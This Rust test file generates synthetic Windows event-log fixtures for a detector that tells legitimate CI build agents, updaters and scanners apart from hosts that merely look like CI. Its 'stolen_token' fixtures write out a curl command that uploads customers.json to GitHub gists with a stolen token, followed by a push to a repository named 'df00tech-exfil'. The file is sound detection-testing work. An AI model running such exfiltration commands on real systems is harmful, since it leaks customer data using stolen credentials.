//! Machines that push because it is their work, and hosts that the CI pattern takes for such.

use super::{CMD, CURL, Day, NODE, POWERSHELL, push_to, short_call};
use crate::support::scenarios::Fixture;
use crate::support::scenarios::git;
use crate::support::scenarios::host::Process;
use crate::support::scenarios::names::{GITHUB, GITHUB_API, GITLAB, OTHER_TOKEN, Shown};

pub fn files() -> Vec<Fixture> {
    vec![
        agent("BUILD-SRV2.corp.example", "developers-day/BUILD-SRV2.evtx", 5),
        agent("gitlab-runner-03.corp.example", "developers-day/gitlab-runner-03.evtx", 4),
        agent("jenkins-7.corp.example", "developers-day/jenkins-7.evtx", 4),
        agent("10482.corp.example", "developers-day/10482.evtx", 5),
        agent("10483.corp.example", "developers-day/10483.evtx", 5),
        updater(),
        scanner(),
        stolen_token("gucci-laptop", r"gucci-laptop\gucci", "developers-day/gucci-laptop.evtx"),
        stolen_token("pci-db01.corp.example", r"CORP\svc-sql", "developers-day/pci-db01.evtx"),
        stolen_token("ws01.devops.corp.example", r"CORP\l.santos", "developers-day/ws01.devops.evtx"),
    ]
}

/// A service that starts a shell for each of its jobs.
fn service(day: &mut Day, image: &str) -> Process {
    let services = day.host.running(r"C:\Windows\System32\services.exe", r"C:\WINDOWS\system32\services.exe");
    day.host.start(&services, image, &format!("\"{image}\" run --service"))
}

/// A build agent, which pushes what it built: with its URL, from a service account.
fn agent(name: &str, path: &'static str, pushes: u64) -> Fixture {
    let mut day = Day::new(name, r"CORP\svc-build", 240);
    let agent = service(&mut day, r"C:\agent\bin\Agent.Worker.exe");
    for number in 0..pushes {
        day.until(&format!("{:02}:17:00", 8 + 2 * number));
        let shell = day.host.start(&agent, CMD, r#"cmd.exe /D /E:ON /V:OFF /S /C "CALL "publish.cmd"""#);
        let refs = format!("HEAD:refs/heads/build-{}", 8810 + number);
        push_to(&mut day.host, &shell, "https://gitlab.com/corp-example/artifacts.git", &refs, &GITLAB);
        day.host.exit(&shell);
    }
    day.log(path, 310_000)
}

/// Renovate and Dependabot: calls of the API, and forced pushes of their branches.
fn updater() -> Fixture {
    let mut day = Day::new("UPD-01.corp.example", r"CORP\svc-updates", 180);
    let service = service(&mut day, r"C:\Program Files\updates\updates.exe");
    let ruby = r"C:\Ruby33-x64\bin\ruby.exe";
    for (hour, package) in [(8, "serde"), (11, "lodash"), (14, "django")] {
        day.until(&format!("{hour:02}:00:05"));
        let renovate = "node  C:\\renovate\\dist\\renovate.js --platform=github";
        let node = day.host.start(&service, NODE, renovate);
        for shown in [Shown::Asked, Shown::Asked, Shown::Dash] {
            day.host.ask(&node, &GITHUB_API);
            day.host.connect(&node, &GITHUB_API, shown);
            day.host.wait(20_000);
        }
        let push = format!(
            "git.exe push --force https://x-access-token:{OTHER_TOKEN}@github.com/corp-example/app.git renovate/{package}"
        );
        let push = day.host.start(&node, git::PROGRAM, &push);
        day.host.wait(2_000);
        day.host.exit(&push);
        day.host.exit(&node);
        let dependabot = format!("ruby  bin/dry-run.rb cargo corp-example/app --dep {package}");
        short_call(&mut day.host, &service, (ruby, &dependabot), &GITHUB_API, Shown::Asked);
    }
    day.log("developers-day/UPD-01.evtx", 88_000)
}

/// A scanner that hands in its results.
fn scanner() -> Fixture {
    let mut day = Day::new("SCAN-02.corp.example", r"CORP\svc-scan", 180);
    let service = service(&mut day, r"C:\Program Files\scanner\scand.exe");
    let python = r"C:\Program Files\scanner\python\python.exe";
    for hour in [9, 12, 15, 17] {
        day.until(&format!("{hour:02}:10:00"));
        let send = format!(
            "curl.exe -X POST -H \"Authorization: Bearer {OTHER_TOKEN}\" -d @results.sarif.gz.b64 \
             https://api.github.com/repos/corp-example/app/code-scanning/sarifs"
        );
        short_call(&mut day.host, &service, (CURL, &send), &GITHUB_API, Shown::Reverse);
        short_call(&mut day.host, &service, (python, "python.exe publish.py"), &GITHUB, Shown::Dash);
    }
    day.log("developers-day/SCAN-02.evtx", 17_400)
}

/// A real upload with a stolen token, and a push, on a host that is "CI" by three letters of its name.
fn stolen_token(name: &str, user: &str, path: &'static str) -> Fixture {
    let mut day = Day::new(name, user, 300);
    let shell = day.open(POWERSHELL);
    day.until("12:41:00");
    let upload = format!(
        "\"{CURL}\" -s -X POST -H \"Authorization: token {OTHER_TOKEN}\" -d @customers.json https://api.github.com/gists"
    );
    short_call(&mut day.host, &shell, (CURL, &upload), &GITHUB_API, Shown::Asked);
    day.until("12:55:00");
    push_to(
        &mut day.host,
        &shell,
        "https://github.com/df00tech-lab/df00tech-exfil.git",
        "HEAD:main",
        &GITHUB,
    );
    day.log(path, 1)
}
